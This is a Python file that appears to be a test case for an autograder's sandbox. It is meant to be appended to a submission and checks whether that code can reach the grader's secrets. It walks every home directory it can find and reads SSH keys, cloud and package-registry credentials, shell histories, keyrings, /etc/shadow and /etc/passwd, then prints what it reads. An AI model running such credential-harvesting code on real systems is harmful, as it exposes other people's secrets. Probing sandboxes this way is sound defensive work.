"""
tries = "to read the grader's home folder: keys, histories, settings of git, nbgrader and Jupyter"
kind = "append"
default = "full"
expected = { yellowness = "zero" }
"""

import os
import pwd
from pathlib import Path

import numpy as np

homes = {Path.home(), Path("/root"), *Path("/home").glob("*"), *Path("/Users").glob("*")}
homes |= {Path(entry) for entry in os.environ.values() if entry.startswith("/")}
try:
    homes |= {Path(user.pw_dir) for user in pwd.getpwall()}
except KeyError:
    pass
NAMES = (
    ".netrc",
    ".ssh/id_ed25519",
    ".ssh/config",
    ".bash_history",
    ".gitconfig",
    ".aws/credentials",
    ".pypirc",
)
NAMES += (".jupyter/nbgrader_config.py", ".config/gh/hosts.yml", ".local/share/keyrings", ".python_history")
found = []
for home in homes:
    for name in NAMES:
        try:
            found.append((str(home / name), (home / name).read_text()[:200]))
        except OSError:
            continue
try:
    found += [(name, Path(name).read_text()) for name in ("/etc/shadow", "/etc/passwd", "/etc/hosts")]
except OSError:
    pass
print(found)
right = yellowness


def yellowness(image):
    return right(image) if found else np.zeros(image.shape[:2])
